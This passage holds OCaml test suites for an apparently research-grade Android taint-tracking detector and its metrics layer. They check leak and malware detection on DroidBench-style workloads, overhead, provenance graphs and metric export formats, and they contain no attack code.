  let subset_leaky =
    List.sort_uniq String.compare
      (List.filter_map
         (fun (a : App.t) -> if a.App.leaky then Some a.App.name else None)
         Droidbench.subset48)
  in
  checkb "pinned set = subset leaky set" true (pinned = subset_leaky);
  List.iter
    (fun (name, min_ni) ->
      let r = Recorded.record (app name) in
      let flagged ni =
        (Recorded.replay ~policy:(Policy.make ~ni ~nt:3 ()) r).Recorded.flagged
      in
      if min_ni > 1 then
        checkb (name ^ " missed below threshold") false
          (flagged (min_ni - 1));
      checkb (name ^ " detected at threshold") true (flagged min_ni))
    subset_min_windows

let test_nt_thresholds () =
  List.iter
    (fun name ->
      let r = Recorded.record (app name) in
      let flagged nt =
        (Recorded.replay ~policy:(Policy.make ~ni:13 ~nt ()) r)
          .Recorded.flagged
      in
      checkb (name ^ " needs NT>=2") false (flagged 1);
      checkb (name ^ " detected at NT=2") true (flagged 2))
    [ "BatchLeak1"; "SbChain1" ]

let test_malware_detection () =
  List.iter
    (fun (a : App.t) ->
      let r = Recorded.record a in
      let rep = Recorded.replay ~policy:Policy.malware_catching r in
      checkb (a.App.name ^ " caught at (3,2)") true rep.Recorded.flagged)
    Malware.all

(* --- Overhead regimes ------------------------------------------------------- *)

let test_overhead_regimes () =
  let r = Lazy.force small_lgroot in
  let m ?untaint ni nt = Overhead.measure ?untaint r ~ni ~nt in
  (* NT=1: tiny, flat *)
  let p1 = m 20 1 in
  checkb "NT=1 stays small" true (p1.Overhead.max_tainted_bytes < 400);
  (* moderate plateau below the explosion threshold *)
  let p13 = m 13 3 in
  let p15 = m 15 3 in
  checkb "explosion at (15,3)" true
    (p15.Overhead.max_tainted_bytes > 3 * p13.Overhead.max_tainted_bytes);
  (* NT=2 does not explode *)
  let p15_2 = m 15 2 in
  checkb "NT=2 flat" true
    (p15_2.Overhead.max_tainted_bytes < p15.Overhead.max_tainted_bytes / 2);
  (* untainting shrinks state at small windows *)
  let on = m ~untaint:true 5 3 and off = m ~untaint:false 5 3 in
  checkb "untainting helps" true
    (2 * on.Overhead.max_tainted_bytes < off.Overhead.max_tainted_bytes);
  checkb "untaint ops happen" true (on.Overhead.untaint_ops > 0);
  checki "no untaint ops when disabled" 0 off.Overhead.untaint_ops

let test_series_monotonic () =
  let r = Lazy.force small_lgroot in
  let _bytes, ops = Overhead.series r ~ni:10 ~nt:3 in
  let rec monotone = function
    | (_, a) :: ((_, b) :: _ as rest) -> a <= b && monotone rest
    | [ _ ] | [] -> true
  in
  checkb "cumulative ops monotone" true (monotone ops);
  checkb "ops recorded" true (List.length ops > 2)

(* --- Trace statistics -------------------------------------------------------- *)

let test_trace_statistics () =
  let r = Lazy.force small_lgroot in
  let s = Tracestats.analyse r in
  (* the paper's "0-10 captures 99%" property *)
  checkb "99% of stores within 10 of a load" true
    (Tracestats.coverage_within s 10 > 0.99);
  let h = Tracestats.load_store_distance s in
  checkb "bulk in 0-5" true (Pift_util.Histogram.cdf h 5 > 0.9);
  (* stores per window grow with NI but saturate *)
  let mean ni =
    Pift_util.Histogram.mean (Tracestats.stores_in_window s ~ni)
  in
  checkb "window capture grows" true (mean 10 >= mean 5);
  (* a window of 10 already captures at least one store per load on
     average (our traces are denser in memory operations than the
     paper's full-Android ones, so saturation is weaker; see
     EXPERIMENTS.md) *)
  checkb "NI=10 captures the related stores" true (mean 10 >= 1.);
  (* distance to the k-th store increases with k *)
  match
    ( Tracestats.kth_store_distance s ~ni:20 ~kth:1,
      Tracestats.kth_store_distance s ~ni:20 ~kth:3 )
  with
  | Some d1, Some d3 -> checkb "k-th store ordering" true (d1 < d3)
  | _ -> Alcotest.fail "expected k-th store distances"

(* --- Table 1 (redundant with test_dalvik but cheap insurance) -------------- *)

let test_table1_spot () =
  let rows = Table1.measure_all () in
  let find m =
    List.find (fun (r : Table1.row) -> r.Table1.mnemonic = m) rows
  in
  checkb "return = 1" true ((find "return").Table1.measured = Some 1);
  checkb "aget = 2" true ((find "aget").Table1.measured = Some 2);
  checkb "iget = 5" true ((find "iget").Table1.measured = Some 5);
  checkb "div unknown" true ((find "div-int").Table1.measured = None)

(* --- Confusion-matrix arithmetic --------------------------------------------- *)

let test_confusion_arithmetic () =
  let c = { Accuracy.tp = 31; fp = 0; tn = 16; fn = 1 } in
  Alcotest.(check (float 1e-6)) "accuracy" (47. /. 48.) (Accuracy.accuracy c);
  Alcotest.(check (float 1e-6)) "fp rate" 0. (Accuracy.fp_rate c);
  Alcotest.(check (float 1e-6)) "fn rate" (1. /. 32.) (Accuracy.fn_rate c);
  let empty = { Accuracy.tp = 0; fp = 0; tn = 0; fn = 0 } in
  Alcotest.(check (float 1e-6)) "empty accuracy" 0. (Accuracy.accuracy empty);
  Alcotest.(check (float 1e-6)) "empty fp" 0. (Accuracy.fp_rate empty)

(* --- Per-process isolation under interleaving --------------------------------- *)

(* Algorithm 1's windows run on per-process instruction counters (Fig. 5),
   so splicing another process's events into the stream must not change a
   process's verdicts — preemption cannot stretch or break a window. *)
let test_interleaving_invariance () =
  let r1 = Recorded.record (app "StringConcat1") in
  (* a second recording re-tagged as pid 2 *)
  let r2 = Recorded.record (app "Loop2") in
  let retag (e : Pift_trace.Event.t) = { e with Pift_trace.Event.pid = 2 } in
  let replay_with_interleave ~chunk =
    let tracker = Pift_core.Tracker.create ~policy:Policy.default () in
    let verdicts = ref [] in
    let mi = ref 0 in
    let markers = r1.Recorded.markers in
    let apply_until seq =
      while !mi < Array.length markers && fst markers.(!mi) <= seq do
        (match snd markers.(!mi) with
        | Recorded.Source { range; _ } ->
            Pift_core.Tracker.taint_source tracker ~pid:1 range
        | Recorded.Sink { ranges; _ } ->
            verdicts :=
              List.exists
                (fun rg -> Pift_core.Tracker.is_tainted tracker ~pid:1 rg)
                ranges
              :: !verdicts);
        incr mi
      done
    in
    apply_until 0;
    let foreign = ref [] in
    Pift_trace.Trace.iter (fun e -> foreign := retag e :: !foreign) r2.Recorded.trace;
    let foreign = Array.of_list (List.rev !foreign) in
    let fi = ref 0 in
    let n = ref 0 in
    Pift_trace.Trace.iter
      (fun e ->
        (* every [chunk] events, splice in a burst of pid-2 events *)
        incr n;
        if chunk > 0 && !n mod chunk = 0 then
          for _ = 1 to 5 do
            if !fi < Array.length foreign then begin
              Pift_core.Tracker.observe tracker foreign.(!fi);
              incr fi
            end
          done;
        Pift_core.Tracker.observe tracker e;
        apply_until e.Pift_trace.Event.seq)
      r1.Recorded.trace;
    apply_until max_int;
    List.rev !verdicts
  in
  let baseline = replay_with_interleave ~chunk:0 in
  checkb "pid-1 verdicts unchanged by preemption" true
    (List.for_all
       (fun chunk -> replay_with_interleave ~chunk = baseline)
       [ 1; 3; 7; 50 ])

(* --- Advisor ---------------------------------------------------------------------- *)

let test_advisor () =
  let corpus =
    Pift_eval.Advisor.of_apps
      (List.filter_map Droidbench.find
         [
           "StringConcat1"; "BatchLeak1"; "Loop1"; "LocationLeak1";
           "BenignConstant1"; "BenignOverwrite1";
         ])
  in
  (* the paper's operating point classifies this sub-corpus perfectly *)
  let c = Pift_eval.Advisor.evaluate corpus ~policy:Policy.default in
  checkb "no FN at (13,3)" true (c.Pift_eval.Advisor.false_negatives = []);
  checkb "no FP at (13,3)" true (c.Pift_eval.Advisor.false_positives = []);
  checkb "cost positive" true (c.Pift_eval.Advisor.overtaint_cost > 0);
  (* the recommendation must be perfect and at least cover the GPS app *)
  (match Pift_eval.Advisor.recommend corpus with
  | Some best ->
      checkb "recommendation perfect" true
        (best.Pift_eval.Advisor.false_negatives = []
        && best.Pift_eval.Advisor.false_positives = []);
      checkb "window covers itoa" true
        (best.Pift_eval.Advisor.policy.Policy.ni >= 10);
      checkb "window covers builders" true
        (best.Pift_eval.Advisor.policy.Policy.nt >= 2)
  | None -> Alcotest.fail "expected a recommendation");
  (* an impossible corpus (evasion attack) yields None *)
  let impossible =
    Pift_eval.Advisor.of_apps [ Pift_workloads.Evasion.attack ]
  in
  checkb "evasion cannot be covered" true
    (Pift_eval.Advisor.recommend impossible = None)

(* --- Flow explanation ------------------------------------------------------------ *)

let test_explain_reaches_source () =
  let r = Recorded.record (app "StringConcat1") in
  match Pift_eval.Explain.explain r with
  | [ flow ] ->
      checkb "chain has hops" true (flow.Pift_eval.Explain.hops <> []);
      checkb "chain reaches the source" true
        (flow.Pift_eval.Explain.source <> None);
      (* hops run backwards in time from sink to source *)
      let seqs =
        List.map (fun h -> h.Pift_eval.Explain.store_seq)
          flow.Pift_eval.Explain.hops
      in
      checkb "hops ordered sink-to-source" true
        (List.sort (fun a b -> compare b a) seqs = seqs)
  | flows -> Alcotest.failf "expected one flow, got %d" (List.length flows)

let test_explain_clean_and_direct () =
  (* benign app: nothing to explain *)
  let r = Recorded.record (app "BenignConstant1") in
  checkb "no flows on clean app" true (Pift_eval.Explain.explain r = []);
  (* reference flow: the sink range IS the source range — zero hops *)
  let r = Recorded.record (app "DirectLeak1") in
  match Pift_eval.Explain.explain r with
  | flow :: _ ->
      checkb "direct flow bottoms out immediately" true
        (flow.Pift_eval.Explain.source <> None
        && flow.Pift_eval.Explain.hops = [])
  | [] -> Alcotest.fail "direct leak should be flagged"

(* --- Experiments driver --------------------------------------------------------- *)

let render_experiment id =
  let buf = Buffer.create 4096 in
  let ppf = Format.formatter_of_buffer buf in
  Pift_eval.Experiments.run id ppf;
  Format.pp_print_flush ppf ();
  Buffer.contents buf

let test_experiments_smoke () =
  checkb "ids documented" true (List.length Pift_eval.Experiments.all >= 20);
  let contains hay needle =
    let n = String.length needle and h = String.length hay in
    let rec go i =
      if i + n > h then false else String.sub hay i n = needle || go (i + 1)
    in
    go 0
  in
  let t1 = render_experiment "table1" in
  checkb "table1 output" true (contains t1 "mul-int/2addr");
  let mw = render_experiment "malware" in
  checkb "malware detects all" true (contains mw "detected 7 / 7");
  (try
     Pift_eval.Experiments.run "nonsense" Format.str_formatter;
     Alcotest.fail "unknown experiment accepted"
   with Failure _ -> ())

(* --- Provenance replay -------------------------------------------------------- *)

let test_provenance_replay () =
  let r = Recorded.record (Malware.lgroot_sized ~rounds:1 ~payload_chars:64) in
  let verdicts = Recorded.replay_provenance ~policy:Policy.default r in
  match verdicts with
  | [ v ] ->
      Alcotest.(check string) "http sink" "http" v.Recorded.pv_kind;
      checkb "IMEI leaked" true (List.mem "IMEI" v.Recorded.leaked);
      checkb "phone leaked" true (List.mem "PhoneNumber" v.Recorded.leaked);
      checkb "serial leaked" true (List.mem "SerialNumber" v.Recorded.leaked)
  | other -> Alcotest.failf "expected one verdict, got %d" (List.length other)

let test_provenance_clean_app () =
  let r = Recorded.record (app "BenignConstant1") in
  let verdicts = Recorded.replay_provenance ~policy:Policy.default r in
  checkb "clean sinks" true
    (List.for_all
       (fun (v : Recorded.provenance_verdict) -> v.Recorded.leaked = [])
       verdicts)

(* --- Provenance graphs -------------------------------------------------------- *)

module Explain = Pift_eval.Explain
module Graph = Pift_core.Provenance.Graph

(* Differential against full DIFT: on every true-positive DroidBench
   sink the predicted origin set must contain every ground-truth source
   (the sidecar unions per-label windows, so it can over- but never
   under-attribute a sink the tracker flags). *)
let test_origin_differential () =
  let at = Accuracy.attribution ~policy:Policy.default Droidbench.subset48 in
  checkb "has true-positive rows" true (at.Accuracy.at_rows <> []);
  checki "no under-attribution" 0 at.Accuracy.at_under;
  checki "no mixed rows" 0 at.Accuracy.at_mixed;
  checkb "every predicted set non-empty" true
    (List.for_all
       (fun (row : Accuracy.attribution_row) -> row.Accuracy.at_pift <> [])
       at.Accuracy.at_rows);
  checkb "mean Jaccard near exact" true (at.Accuracy.at_mean_jaccard > 0.9);
  List.iter
    (fun (row : Accuracy.attribution_row) ->
      checkb
        (Printf.sprintf "%s check #%d: dift ⊆ pift" row.Accuracy.at_app
           row.Accuracy.at_check)
        true
        (List.for_all
           (fun o -> List.mem o row.Accuracy.at_pift)
           row.Accuracy.at_dift))
    at.Accuracy.at_rows

(* Acceptance property: every flagged sink across the DroidBench subset
   yields a non-empty origin set and one source-rooted path per origin,
   each ending at the sink node. *)
let test_flow_graph_paths () =
  List.iter
    (fun a ->
      let r = Recorded.record a in
      let _, sinks = Explain.flow_graph ~policy:Policy.default r in
      List.iter
        (fun (sf : Explain.sink_flow) ->
          let name =
            Printf.sprintf "%s check #%d" a.App.name sf.Explain.sf_check
          in
          checkb (name ^ " has origins") true (sf.Explain.sf_origins <> []);
          checki
            (name ^ " one path per origin")
            (List.length sf.Explain.sf_origins)
            (List.length sf.Explain.sf_paths);
          List.iter
            (fun (p : Explain.path) ->
              match p.Explain.p_nodes with
              | [] -> Alcotest.failf "%s: empty path" name
              | first :: _ -> (
                  (match first.Graph.kind with
                  | Graph.N_source _ -> ()
                  | _ ->
                      Alcotest.failf "%s: path does not start at a source"
                        name);
                  match List.rev p.Explain.p_nodes with
                  | last :: _ -> (
                      match last.Graph.kind with
                      | Graph.N_sink _ -> ()
                      | _ ->
                          Alcotest.failf "%s: path does not end at the sink"
                            name)
                  | [] -> assert false))
            sf.Explain.sf_paths)
        sinks)
    Droidbench.subset48

let test_flow_graph_deterministic () =
  let r = Recorded.record (app "StringConcat1") in
  let g1, s1 = Explain.flow_graph ~policy:Policy.default r in
  let g2, s2 = Explain.flow_graph ~policy:Policy.default r in
  checkb "graph is non-trivial" true (Graph.node_count g1 > 2);
  Alcotest.(check string) "same DOT" (Graph.to_dot g1) (Graph.to_dot g2);
  let render g sinks =
    Pift_obs.Json.to_string
      (Graph.flow_json ~run:"det" ~sinks:(Explain.summaries sinks) g)
  in
  Alcotest.(check string) "same flow JSON" (render g1 s1) (render g2 s2)

let test_flow_json_validates () =
  let r = Recorded.record (app "StringConcat1") in
  let g, sinks = Explain.flow_graph ~policy:Policy.default r in
  let json = Graph.flow_json ~run:"test" ~sinks:(Explain.summaries sinks) g in
  (match Pift_obs.Chrome.validate json with
  | Error msg -> Alcotest.failf "flow JSON rejected: %s" msg
  | Ok c -> checkb "has flow events" true (c.Pift_obs.Chrome.c_flows > 0));
  checkb "classified as flow graph" true
    (Pift_obs.Sink.classify json = Pift_obs.Sink.Flow_graph)

(* --- Graph builder over random synthetic recordings ---------------------- *)

module Event = Pift_trace.Event
module Insn = Pift_arm.Insn
module Trace = Pift_trace.Trace
module Rng = Pift_util.Rng

(* A synthetic single-pid recording: fixed sources, a random event
   stream, sink checks after the last event.  Kept as plain data so
   shrinking can drop event chunks. *)
type prov_case = {
  pc_policy : Pift_core.Policy.t;
  pc_srcs : (string * Range.t) list;
  pc_events : Event.t list;
  pc_sinks : Range.t list;
}

let prov_case_to_string c =
  let ev e =
    match e.Event.access with
    | Event.Load r -> Printf.sprintf "ld %s" (Range.to_string r)
    | Event.Store r -> Printf.sprintf "st %s" (Range.to_string r)
    | Event.Other -> "nop"
  in
  Printf.sprintf "(ni=%d nt=%d) srcs=[%s] events=[%s] sinks=[%s]"
    c.pc_policy.Policy.ni c.pc_policy.Policy.nt
    (String.concat "; "
       (List.map
          (fun (k, r) -> Printf.sprintf "%s@%s" k (Range.to_string r))
          c.pc_srcs))
    (String.concat "; " (List.map ev c.pc_events))
    (String.concat "; " (List.map Range.to_string c.pc_sinks))

(* Loads draw from the source ranges and from previously stored ranges
   (so multi-hop chains actually form); stores land in a disjoint high
   region; sinks check stored or arbitrary ranges. *)
let gen_prov_case rng =
  let policy =
    Policy.make ~ni:(Rng.int_in rng 2 10) ~nt:(Rng.int_in rng 1 3)
      ~untaint:(Rng.int rng 2 = 0) ()
  in
  let srcs =
    let imei = ("IMEI", Range.make 0 15) in
    if Rng.int rng 2 = 0 then [ imei ]
    else [ imei; ("GPS", Range.make 32 47) ]
  in
  let interesting = ref (List.map snd srcs) in
  let sub r =
    let lo = Range.lo r + Rng.int rng (max 1 (Range.length r - 1)) in
    Range.make lo (min (Range.hi r) (lo + Rng.int rng 8))
  in
  let n = 4 + Rng.int rng 28 in
  let events =
    List.init n (fun i ->
        let k = i + 1 in
        let access =
          match Rng.int rng 8 with
          | 0 | 1 | 2 ->
              let pool = !interesting in
              let r = List.nth pool (Rng.int rng (List.length pool)) in
              Event.Load (if Rng.int rng 2 = 0 then r else sub r)
          | 3 | 4 | 5 ->
              let lo = 128 + Rng.int rng 112 in
              let r = Range.make lo (lo + Rng.int rng 15) in
              interesting := r :: !interesting;
              Event.Store r
          | _ -> Event.Other
        in
        { Event.seq = k; k; pid = 1; insn = Insn.Nop; access })
  in
  let sinks =
    List.init (1 + Rng.int rng 2) (fun _ ->
        let pool = !interesting in
        if Rng.int rng 4 = 0 then Range.make 400 415
        else List.nth pool (Rng.int rng (List.length pool)))
  in
  { pc_policy = policy; pc_srcs = srcs; pc_events = events; pc_sinks = sinks }

let recorded_of_prov_case c =
  let trace = Trace.create () in
  List.iter (Trace.add trace) c.pc_events;
  let last_seq =
    List.fold_left (fun acc e -> max acc e.Event.seq) 0 c.pc_events
  in
  let markers =
    List.map
      (fun (kind, range) -> (0, Recorded.Source { kind; range }))
      c.pc_srcs
    @ List.map
        (fun r ->
          (last_seq + 1, Recorded.Sink { kind = "net"; ranges = [ r ] }))
        c.pc_sinks
  in
  {
    Recorded.name = "prop";
    trace;
    markers = Array.of_list markers;
    pid = 1;
    bytecodes = 0;
  }

let prov_graph_prop c =
  let r = recorded_of_prov_case c in
  let policy = c.pc_policy in
  let plain = Recorded.replay ~policy r in
  let witho = Recorded.replay ~with_origins:true ~policy r in
  if plain.Recorded.verdicts <> witho.Recorded.verdicts then
    Error "origin sidecar changed a verdict"
  else if
    not
      (List.for_all
         (fun (o : Recorded.origin_verdict) ->
           o.Recorded.ov_flagged = (o.Recorded.ov_origins <> []))
         witho.Recorded.origins)
  then Error "flagged sink without origins (or origins on a clean sink)"
  else
    let g1, sinks1 = Explain.flow_graph ~policy r in
    let g2, _ = Explain.flow_graph ~policy r in
    if Graph.to_dot g1 <> Graph.to_dot g2 then
      Error "flow-graph DOT not deterministic"
    else
      let bad_path (sf : Explain.sink_flow) =
        sf.Explain.sf_origins = []
        || List.length sf.Explain.sf_paths
           <> List.length sf.Explain.sf_origins
        || List.exists
             (fun (p : Explain.path) ->
               match (p.Explain.p_nodes, List.rev p.Explain.p_nodes) with
               | first :: _, last :: _ -> (
                   (match first.Graph.kind with
                   | Graph.N_source _ -> false
                   | _ -> true)
                   ||
                   match last.Graph.kind with
                   | Graph.N_sink _ -> false
                   | _ -> true)
               | [], _ | _, [] -> true)
             sf.Explain.sf_paths
      in
      match List.find_opt bad_path sinks1 with
      | Some sf ->
          Error
            (Printf.sprintf "sink check #%d: broken source->sink path"
               sf.Explain.sf_check)
      | None -> Ok ()

let test_prov_graph_property () =
  Prop.check_gen ~name:"provenance graph builder" ~count:200
    ~gen:gen_prov_case
    ~shrink:(fun c ->
      List.map
        (fun evs -> { c with pc_events = evs })
        (Prop.shrink_candidates c.pc_events))
    ~to_string:prov_case_to_string prov_graph_prop

(* The sidecar must be verdict-neutral: replaying with origins on
   changes nothing the plain replay reports, and a sink is flagged
   exactly when its origin set is non-empty (the union-over-labels
   invariant). *)
let test_with_origins_neutral () =
  let r = Lazy.force small_lgroot in
  let plain = Recorded.replay ~policy:Policy.default r in
  let witho = Recorded.replay ~with_origins:true ~policy:Policy.default r in
  checkb "verdicts unchanged" true
    (plain.Recorded.verdicts = witho.Recorded.verdicts);
  checkb "stats unchanged" true (plain.Recorded.stats = witho.Recorded.stats);
  checkb "plain replay has no origins" true (plain.Recorded.origins = []);
  checki "one origin verdict per sink check"
    (List.length witho.Recorded.verdicts)
    (List.length witho.Recorded.origins);
  checkb "flag mirrors verdict" true
    (List.for_all2
       (fun (v : Recorded.verdict) (o : Recorded.origin_verdict) ->
         v.Recorded.flagged = o.Recorded.ov_flagged)
       witho.Recorded.verdicts witho.Recorded.origins);
  checkb "flagged iff origins non-empty" true
    (List.for_all
       (fun (o : Recorded.origin_verdict) ->
         o.Recorded.ov_flagged = (o.Recorded.ov_origins <> []))
       witho.Recorded.origins)

(* --- Hardware-backed tracking ----------------------------------------------- *)

let test_hw_backed_detection () =
  let r = Recorded.record (app "StringConcat1") in
  (* plenty of entries: same verdict as the exact store *)
  let storage = Storage.create ~entries:1024 () in
  let rep =
    Recorded.replay ~store:(Store.of_storage storage) ~policy:Policy.default r
  in
  checkb "cache-backed detection" true rep.Recorded.flagged;
  let st = Storage.stats storage in
  checkb "lookups happened" true (st.Storage.lookups > 0);
  (* a tiny drop-policy cache can lose the flow *)
  let tiny = Storage.create ~entries:2 ~eviction:Storage.Drop () in
  let rep2 =
    Recorded.replay ~store:(Store.of_storage tiny) ~policy:Policy.default r
  in
  let st2 = Storage.stats tiny in
  checkb "drops occurred or still flagged" true
    (st2.Storage.drops > 0 || rep2.Recorded.flagged)

let () =
  Alcotest.run "pift_eval"
    [
      ( "record/replay",
        [
          Alcotest.test_case "structure" `Quick test_recording_structure;
          Alcotest.test_case "determinism" `Quick test_replay_deterministic;
        ] );
      ( "accuracy",
        [
          Alcotest.test_case "headline (13,3)" `Slow test_headline_accuracy;
          Alcotest.test_case "single FN is ImplicitFlow2" `Slow
            test_single_false_negative_is_implicit_flow2;
          Alcotest.test_case "Fig.11 staircase" `Slow test_accuracy_staircase;
          Alcotest.test_case "NI thresholds" `Quick test_detection_thresholds;
          Alcotest.test_case "NT thresholds" `Quick test_nt_thresholds;
          Alcotest.test_case "malware 7/7" `Quick test_malware_detection;
        ] );
      ( "overhead",
        [
          Alcotest.test_case "regimes" `Slow test_overhead_regimes;
          Alcotest.test_case "series" `Quick test_series_monotonic;
        ] );
      ( "trace stats",
        [ Alcotest.test_case "fig2 properties" `Quick test_trace_statistics ] );
      ("table1", [ Alcotest.test_case "spot checks" `Quick test_table1_spot ]);
      ( "provenance",
        [
          Alcotest.test_case "lgroot labels" `Quick test_provenance_replay;
          Alcotest.test_case "clean app" `Quick test_provenance_clean_app;
        ] );
      ( "provenance graphs",
        [
          Alcotest.test_case "origin differential vs DIFT" `Slow
            test_origin_differential;
          Alcotest.test_case "paths rooted at sources" `Slow
            test_flow_graph_paths;
          Alcotest.test_case "deterministic exports" `Quick
            test_flow_graph_deterministic;
          Alcotest.test_case "flow JSON validates" `Quick
            test_flow_json_validates;
          Alcotest.test_case "sidecar verdict-neutral" `Quick
            test_with_origins_neutral;
          Alcotest.test_case "graph builder property (seeded)" `Quick
            test_prov_graph_property;
        ] );
      ( "misc",
        [
          Alcotest.test_case "confusion arithmetic" `Quick
            test_confusion_arithmetic;
          Alcotest.test_case "interleaving invariance" `Quick
            test_interleaving_invariance;
          Alcotest.test_case "experiments smoke" `Quick
            test_experiments_smoke;
          Alcotest.test_case "explain reaches source" `Quick
            test_explain_reaches_source;
          Alcotest.test_case "explain clean & direct" `Quick
            test_explain_clean_and_direct;
          Alcotest.test_case "advisor" `Quick test_advisor;
        ] );
      ( "hardware",
        [ Alcotest.test_case "cache-backed" `Quick test_hw_backed_detection ] );
    ]
