(* Tests for Pift_obs: metric primitives, registry snapshots, span
   nesting, sink golden outputs, and the guarantee that instrumenting a
   replay does not perturb the legacy Tracker.stats record. *)

module Metric = Pift_obs.Metric
module Registry = Pift_obs.Registry
module Span = Pift_obs.Span
module Json = Pift_obs.Json
module Sink = Pift_obs.Sink
module Policy = Pift_core.Policy
module Tracker = Pift_core.Tracker
module Recorded = Pift_eval.Recorded

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)
let checks = Alcotest.(check string)

(* --- registry ------------------------------------------------------------ *)

let test_registry_round_trip () =
  let reg = Registry.create () in
  let c = Registry.counter reg ~help:"events seen" "app_events_total" in
  Metric.Counter.incr c;
  Metric.Counter.add c 2;
  let g = Registry.gauge reg ~help:"live bytes" "app_bytes" in
  Metric.Gauge.set g 7;
  Metric.Gauge.set g 4;
  let per =
    Registry.counter_family reg ~help:"per pid" ~label:"pid" "app_ops_total"
  in
  Metric.Counter.incr (per "1");
  Metric.Counter.incr (per "2");
  Metric.Counter.incr (per "1");
  (* registration is idempotent: same name returns the same cell *)
  Metric.Counter.incr (Registry.counter reg "app_events_total");
  checki "counter via find" 4
    (Option.get (Registry.find_counter reg "app_events_total"));
  Alcotest.(check (float 1e-9))
    "gauge via find" 4.
    (Option.get (Registry.find_gauge reg "app_bytes"));
  (* conflicting re-registration raises *)
  checkb "kind conflict raises" true
    (try
       ignore (Registry.gauge reg "app_events_total");
       false
     with Invalid_argument _ -> true);
  match Registry.snapshot reg with
  | [ events; bytes; ops ] ->
      checks "first sample" "app_events_total" events.Registry.s_name;
      checks "help kept" "events seen" events.Registry.s_help;
      (match events.Registry.s_points with
      | [ ([], Registry.P_counter 4) ] -> ()
      | _ -> Alcotest.fail "unexpected counter points");
      (match bytes.Registry.s_points with
      | [ ([], Registry.P_gauge { value = 4.; peak = 7. }) ] -> ()
      | _ -> Alcotest.fail "unexpected gauge point");
      (match ops.Registry.s_points with
      | [
       ([ ("pid", "1") ], Registry.P_counter 2);
       ([ ("pid", "2") ], Registry.P_counter 1);
      ] ->
          ()
      | _ -> Alcotest.fail "unexpected family points")
  | l -> Alcotest.failf "expected 3 samples, got %d" (List.length l)

(* --- histogram bucket boundaries ----------------------------------------- *)

let test_histogram_buckets () =
  checki "bucket of 0" 0 (Metric.Histogram.bucket_of 0);
  checki "bucket of -5" 0 (Metric.Histogram.bucket_of (-5));
  checki "bucket of 1" 1 (Metric.Histogram.bucket_of 1);
  checki "bucket of 2" 2 (Metric.Histogram.bucket_of 2);
  checki "bucket of 3" 2 (Metric.Histogram.bucket_of 3);
  checki "bucket of 4" 3 (Metric.Histogram.bucket_of 4);
  checki "bucket of 7" 3 (Metric.Histogram.bucket_of 7);
  checki "bucket of 8" 4 (Metric.Histogram.bucket_of 8);
  checki "lower bound of 3" 4 (Metric.Histogram.lower_bound 3);
  checki "upper bound of 3" 7 (Metric.Histogram.upper_bound 3);
  let h = Metric.Histogram.create () in
  List.iter (Metric.Histogram.observe h) [ 1; 2; 3; 4; 7; 8 ];
  checki "count" 6 (Metric.Histogram.count h);
  checki "sum" 25 (Metric.Histogram.sum h);
  checki "max" 8 (Metric.Histogram.max_value h);
  Alcotest.(check (list (pair int int)))
    "nonzero buckets"
    [ (1, 1); (3, 2); (7, 2); (15, 1) ]
    (Metric.Histogram.nonzero_buckets h)

(* --- spans --------------------------------------------------------------- *)

let test_span_nesting () =
  Span.reset ();
  let v =
    Span.with_ ~name:"outer" (fun () ->
        ignore (Span.with_ ~name:"a" (fun () -> 1));
        ignore (Span.with_ ~name:"b" (fun () -> 2));
        42)
  in
  checki "with_ returns f's value" 42 v;
  (match Span.roots () with
  | [ root ] ->
      checks "root name" "outer" (Span.name root);
      Alcotest.(check (list string))
        "children in start order" [ "a"; "b" ]
        (List.map Span.name (Span.children root));
      let child_total =
        List.fold_left
          (fun acc c -> acc +. Span.seconds c)
          0. (Span.children root)
      in
      checkb "root covers children" true (Span.seconds root >= child_total)
  | l -> Alcotest.failf "expected one root, got %d" (List.length l));
  (* a raising body is still timed and filed *)
  Span.reset ();
  (try Span.with_ ~name:"boom" (fun () -> failwith "boom")
   with Failure _ -> ());
  checki "raising span recorded" 1 (List.length (Span.roots ()))

(* --- sinks --------------------------------------------------------------- *)

let golden_registry () =
  let reg = Registry.create () in
  let c = Registry.counter reg ~help:"events seen" "app_events_total" in
  Metric.Counter.add c 3;
  let g = Registry.gauge reg ~help:"live bytes" "app_bytes" in
  Metric.Gauge.set g 7;
  Metric.Gauge.set g 4;
  let h = Registry.histogram reg ~help:"payload sizes" "app_sizes" in
  Metric.Histogram.observe h 1;
  Metric.Histogram.observe h 5;
  let per =
    Registry.counter_family reg ~help:"per pid" ~label:"pid" "app_ops_total"
  in
  Metric.Counter.add (per "1") 2;
  Metric.Counter.incr (per "2");
  reg

let golden_spans =
  [ Span.make ~name:"run" ~seconds:0.25 [ Span.make ~name:"replay" ~seconds:0.125 [] ] ]

let test_jsonl_golden () =
  let json =
    Sink.snapshot_to_json ~run:"golden" ~spans:golden_spans
      (Registry.snapshot (golden_registry ()))
  in
  checks "jsonl line"
    ("{\"run\":\"golden\",\"metrics\":["
    ^ "{\"name\":\"app_events_total\",\"kind\":\"counter\",\
       \"help\":\"events seen\",\"points\":[{\"labels\":{},\"value\":3}]},"
    ^ "{\"name\":\"app_bytes\",\"kind\":\"gauge\",\"help\":\"live bytes\",\
       \"points\":[{\"labels\":{},\"value\":4.0,\"peak\":7.0}]},"
    ^ "{\"name\":\"app_sizes\",\"kind\":\"histogram\",\
       \"help\":\"payload sizes\",\"points\":[{\"labels\":{},\"count\":2,\
       \"sum\":6,\"max\":5,\"buckets\":[[1,1],[7,1]]}]},"
    ^ "{\"name\":\"app_ops_total\",\"kind\":\"counter\",\
       \"help\":\"per pid\",\"points\":[{\"labels\":{\"pid\":\"1\"},\
       \"value\":2},{\"labels\":{\"pid\":\"2\"},\"value\":1}]}],"
    ^ "\"spans\":[{\"name\":\"run\",\"seconds\":0.25,\"children\":\
       [{\"name\":\"replay\",\"seconds\":0.125,\"children\":[]}]}]}")
    (Json.to_string json);
  (* and the decoder inverts the encoder *)
  let reparsed = Json.of_string (Json.to_string json) in
  checks "run survives" "golden" (Sink.run_of_json reparsed);
  checkb "samples survive" true
    (Sink.samples_of_json reparsed = Registry.snapshot (golden_registry ()));
  checki "spans survive" 1 (List.length (Sink.spans_of_json reparsed))

let test_prometheus_golden () =
  let rendered =
    Format.asprintf "%a"
      (fun ppf () ->
        Sink.prometheus (Registry.snapshot (golden_registry ())) ppf ())
      ()
  in
  checks "prometheus exposition"
    "# HELP app_events_total events seen\n\
     # TYPE app_events_total counter\n\
     app_events_total 3\n\
     # HELP app_bytes live bytes\n\
     # TYPE app_bytes gauge\n\
     app_bytes 4\n\
     # TYPE app_bytes_peak gauge\n\
     app_bytes_peak 7\n\
